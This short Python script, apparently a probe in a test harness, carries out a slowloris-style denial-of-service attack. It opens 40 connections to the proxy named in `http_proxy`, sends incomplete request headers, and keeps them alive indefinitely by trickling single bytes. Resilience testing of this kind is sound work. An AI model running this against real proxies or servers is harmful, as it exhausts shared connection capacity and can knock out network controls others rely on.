# Tries: to hold the proxy's places with requests that never end to be said.
import os
import socket
import time
from urllib.parse import urlsplit


def run(args, context):
    place = urlsplit(os.environ["http_proxy"])
    held = []
    for _ in range(40):
        connection = socket.create_connection((place.hostname, place.port), timeout=3)
        connection.sendall(b"GET http://allowed.example/ HTTP/1.1\r\nX: ")
        held.append(connection)
    while True:
        for connection in held:
            try:
                connection.sendall(b"x")
            except OSError:
                continue
        time.sleep(0.05)
